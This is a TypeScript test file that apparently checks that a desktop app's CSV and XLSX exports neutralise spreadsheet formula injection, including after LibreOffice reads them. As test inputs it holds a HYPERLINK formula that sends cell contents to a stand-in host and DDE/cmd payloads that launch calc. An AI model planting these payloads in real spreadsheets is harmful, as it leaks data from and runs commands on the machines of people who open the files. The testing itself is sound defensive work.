/**
 * Forty beginnings that some spreadsheet takes for a formula, in every text cell of every table we write: none of them is
 * one, neither by the file itself nor after LibreOffice read it, and our own import gives back what was written.
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { read, type WorkBook } from '@e965/xlsx';
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { reviewOptions } from '#core/desktop/review-options';
import { scoreboardOptions } from '#core/desktop/scoreboard-options';
import { requestId } from '#core/document/records/identity';
import { analyse } from '#core/effort/analyse';
import { effortQuestion, effortReply } from '#core/effort/effort-request';
import { effortCsv } from '#core/effort/effort-table';
import { rejectedRow } from '#core/evidence/evidence-views';
import { trackerCsv, trackers } from '#core/export/tracker-tables';
import { readCsv, writeCsv } from '#core/file/formats/delimited';
import { type Translate, translate } from '#core/i18n/translate';
import { answersCsv } from '#core/requests/answers-page';
import { exportReview } from '#electron/export/export-review';
import { exportScoreboard } from '#electron/export/export-scoreboard';
import { renderers } from '#electron/export/renderers';
import { rejectedHead, rejectedLines } from '#renderer/evidence/rejected-csv';
import { hardCheck } from '../../hard/check';
import { jobOf } from '../electron/export/job-of';
import { hostileMap } from '../support/hostile-map';
import { documentOf } from '../support/small-map';

const check = hardCheck(22);

/** Each is put before the same words. */
const beginnings = [
  ...['=', '+', '-', '@', '|', '%', '==', '=-', '+=', '-+', '@='],
  ...[
    '\t=',
    '\r=',
    '\n=',
    '\r\n=',
    ' =',
    '   +',
    '\u00a0=',
    '\u3000-',
    '\ufeff=',
    '\u200b=',
    '\u2060@',
    '\u00ad=',
  ],
  ...['＝', '＋', '－', '＠', '﹦', '﹢', '\t＝'],
  ...["'=", "''=", '"=', '",=', '";=', '"\r\n=', '%0A=', ';=', '|=', '=cmd|'],
] as const;
const payload = 'HYPERLINK("http://hostile.example/?x="&A1,"open")';
const others = [
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '+1+cmd|x!A0',
  '@SUM(1+1)',
  '-2+3',
  '=1+1',
];
const texts = [...beginnings.map((beginning) => beginning + payload), ...others];

let folder = '';
let made: Tables = new Map();
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'tapki-formulas-'));
  mkdirSync(join(folder, 'read'));
  made = await tables();
}, 120_000);
afterAll(() => rmSync(folder, { recursive: true, force: true }));

type Tables = ReadonlyMap<string, Uint8Array>;
const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);

const hostileAnswers = () =>
  texts.map((text, index) => ({
    ...{
      id: requestId.parse(`request-${index}`),
      kind: 'did' as const,
      title: text,
      answer: text,
      where: text,
    },
    ...{ on: null, asked: index, sources: [{ of: text, count: 1 }] },
  }));

const effortAsked = effortQuestion.parse({
  ...{ metric: 'ces', question: texts[0], scale: { min: 1, max: 7 }, period: null, horizons: [30] },
  ...{ easy: { from: 1, to: 2 }, hard: { from: 6, to: 7 } },
  confounders: [{ by: 'attribute', attribute: texts[0]?.slice(0, 50) }],
});

/** Its words are ours; its figures begin with a sign. */
function effortTable(): string {
  const easy = { n: 400, sum: 120, squares: 90, any: 100 };
  const hard = { n: 300, sum: 240, squares: 200, any: 200 };
  const observed = {
    ...{ n: 700, leftOut: { tooEarly: 0, tooLate: 0, unknown: 0 }, byScore: [{ from: 6, to: 7, ...hard }] },
    ...{ easy, hard, between: 0, strata: [{ label: [texts[0] ?? ''], easy, hard }] },
    ...{ thin: { strata: 0, customers: 0 }, rank: { rho: -0.3, low: -0.4, high: -0.2, n: 700 } },
  };
  const reply = effortReply.parse({
    ...{ takenAt: '2026-11-01T00:00:00.000Z', questions: [] },
    contacts: { records: 10, named: 10, period: null },
    activity: {
      ...{ records: 1, customers: 1, period: null, isMonthly: false, hasSpend: true },
      ...{ hasSegments: false, listsInactive: false },
    },
    asked: {
      ...{ answers: 900, customers: 700, unnamed: 0, inContacts: 700, inActivity: 700 },
      ...{ endEarly: [], withoutConfounder: 0 },
      horizons: [
        {
          days: 30,
          outcomes: { contacts: observed, anyContact: observed, retention: observed, spend: observed },
        },
      ],
    },
  });
  return effortCsv(analyse(reply, effortAsked), effortAsked, 'en');
}

async function tables(): Promise<Tables> {
  const { records } = hostileMap(texts);
  const job = jobOf(records, ['csv', 'xlsx'], { hasNotes: true, hasComments: true });
  const made = new Map<string, Uint8Array>();
  for (const format of ['csv', 'xlsx'] as const)
    for (const [index, file] of (await renderers[format](job)).entries())
      made.set(`map-${index}.${format}`, file.bytes);
  const options = scoreboardOptions.parse({ formats: ['csv', 'xlsx'], language: 'ru', date: '2026-10-05' });
  const snapshot = documentOf(records).snapshot();
  const written = await exportScoreboard({ snapshot, options, folder, baseName: 'goals' });
  if (!written.ok) throw new Error(written.error.code);
  for (const { path } of written.value) made.set(basename(path), new Uint8Array(readFileSync(path)));
  const ofRegister = reviewOptions.parse({
    what: 'register',
    formats: ['csv', 'xlsx'],
    language: 'en',
    date: '2026-10-05',
  });
  const register = await exportReview({ snapshot, options: ofRegister, folder, baseName: 'register' });
  if (!register.ok) throw new Error(register.error.code);
  for (const { path } of register.value) made.set(basename(path), new Uint8Array(readFileSync(path)));
  made.set('answers.csv', utf8(answersCsv(hostileAnswers(), 'en')));
  made.set('effort.csv', utf8(effortTable()));
  const tasks = texts.map((text) => ({
    title: text,
    description: text,
    kind: 'fix',
    owner: text,
    dueOn: null,
  }));
  for (const tracker of trackers) {
    const choice = { tracker, date: '2026-10-05', project: texts[0] ?? '', reporter: texts[1] ?? '' };
    made.set(`${tracker}.csv`, utf8(trackerCsv(tasks, choice)));
  }
  const say: Translate = (message, values) => translate('en', message, values);
  const rows = texts.map((value, index) =>
    rejectedRow.parse({ row: index + 1, column: value, value, reason: 'badDate' }),
  );
  made.set('rejected.csv', utf8(rejectedHead(say) + rejectedLines(say, rows)));
  return made;
}

/** What a spreadsheet would take for one, told in other words than those of the product. */
const looksLikeFormula = (cell: string): boolean => {
  const seen = cell.normalize('NFKC').replace(/^[\s\p{C}]+/u, '');
  return /^[=+\-@|%]/.test(seen) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(cell);
};

function expectNoFormula(book: WorkBook, name: string): number {
  let count = 0;
  for (const sheet of Object.values(book.Sheets))
    for (const cell of (sheet['!data'] ?? []).flat()) {
      if (cell === undefined) continue;
      count += 1;
      expect(cell.f, `${name}: ${String(cell.v)}`).toBeUndefined();
    }
  return count;
}

/** Who makes a table that a spreadsheet opens: what is added here needs a table above. */
const writersOfTables = [
  'core/effort/effort-table.ts',
  'core/export/tracker-tables.ts',
  'core/requests/answers-page.ts',
  'electron/export/export-review.ts',
  'electron/export/export-scoreboard.ts',
  'electron/export/renderers.ts',
  'renderer/evidence/rejected-csv.ts',
];
/** The only ones that know how a cell is written; through them all others go. */
const waysToWrite = [
  'core/evidence/safe-cell.ts',
  'core/file/formats/delimited.ts',
  'electron/export/write-xlsx.ts',
  'electron/export/xlsx-features.ts',
];

it('Every table that the product writes is among these', () => {
  const root = join(import.meta.dirname, '..', '..', '..');
  const sources = ['core', 'electron', 'renderer', 'viewer'].flatMap((room) =>
    readdirSync(join(root, room), { recursive: true })
      .map((name) => `${room}/${String(name).replaceAll('\\', '/')}`)
      .filter((name) => /\.tsx?$/.test(name)),
  );
  const writing = sources.filter((name) =>
    /\b(?:csvText|csvCell|writeCsv|writeXlsx|writeSheets|write-excel-file)\b/.test(
      readFileSync(join(root, name), 'utf8'),
    ),
  );
  expect(writing.toSorted()).toEqual([...writersOfTables, ...waysToWrite].toSorted());
});

const endingOf = (name: string): string => name.slice(name.lastIndexOf('.') + 1);

it('No table that we write holds a formula', { timeout: 120_000 }, () => {
  let count = 0;
  for (const [name, bytes] of made) {
    if (endingOf(name) === 'csv') {
      const rows: string[][] = parse(strFromU8(bytes), {
        bom: true,
        relax_column_count: true,
        skip_empty_lines: true,
      });
      count += rows.flat().length;
      expect(rows.flat().filter(looksLikeFormula), name).toEqual([]);
      expect(rows.length, name).toBeGreaterThan(1);
      continue;
    }
    for (const [part, xml] of Object.entries(unzipSync(bytes)))
      if (part.endsWith('.xml')) expect(strFromU8(xml), `${name} ${part}`).not.toMatch(/<(?:\w+:)?f[\s/>]/);
    count += expectNoFormula(read(bytes, { dense: true, cellFormula: true }), name);
  }
  const seen = `none in ${count} cells; ${texts.length} texts`;
  check.note({ name: 'formulas in tables as written', required: 'none', seen, holds: true });
});

it('LibreOffice finds none in them', { timeout: 300_000 }, async ({ skip }) => {
  if (spawnSync('soffice', ['--version']).status !== 0) skip('LibreOffice is not installed here');
  for (const [name, bytes] of made) writeFileSync(join(folder, name), bytes);
  const profile = pathToFileURL(join(folder, 'profile')).href;
  const names = [...made.keys()].map((name) => join(folder, name));
  // UTF-8, quoted by ", and numbers and formulas looked for, as a person's double click does.
  const words = [
    '--headless',
    `-env:UserInstallation=${profile}`,
    '--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1',
  ];
  const groups = [
    names.filter((name) => name.endsWith('.csv')),
    names.filter((name) => name.endsWith('.xlsx')),
  ];
  for (const [index, group] of groups.entries()) {
    const own = index === 0 ? words : words.slice(0, 2);
    const run = spawnSync(
      'soffice',
      [...own, '--convert-to', 'xlsx', '--outdir', join(folder, 'read'), ...group],
      { encoding: 'utf8' },
    );
    expect(run.status, run.stderr).toBe(0);
    let count = 0;
    for (const name of readdirSync(join(folder, 'read'))) {
      count += expectNoFormula(
        read(readFileSync(join(folder, 'read', name)), { dense: true, cellFormula: true }),
        name,
      );
      rmSync(join(folder, 'read', name));
    }
    expect(count).toBeGreaterThan(texts.length);
    const kind = index === 0 ? 'CSV' : 'XLSX';
    check.note({
      name: `formulas after LibreOffice read ${kind}`,
      required: 'none',
      seen: `none in ${count} cells`,
      holds: true,
    });
  }
});

it('Our own import gives back what people wrote, and numbers stay numbers', () => {
  // A table has line ends of one kind; a text field takes no other.
  const plain = texts.map((text) => text.replace(/\r\n?/g, '\n'));
  for (const delimiter of [',', ';', '\t']) {
    const grid = [['a', 'b'], ...plain.map((text, index) => [text, String(index - 20)])];
    const back = readCsv(writeCsv(grid, delimiter));
    expect(back.ok && back.grid, JSON.stringify(delimiter)).toEqual(grid);
  }
  const [, numbers] = parse(writeCsv([['n'], [-5], ['-12,5'], [0.25]]).slice(1), {
    relax_column_count: true,
  });
  expect(numbers).toEqual(['-5']);
  check.note({
    name: 'texts that came back unchanged',
    required: `all ${plain.length}`,
    seen: `${plain.length}`,
    holds: true,
  });
});
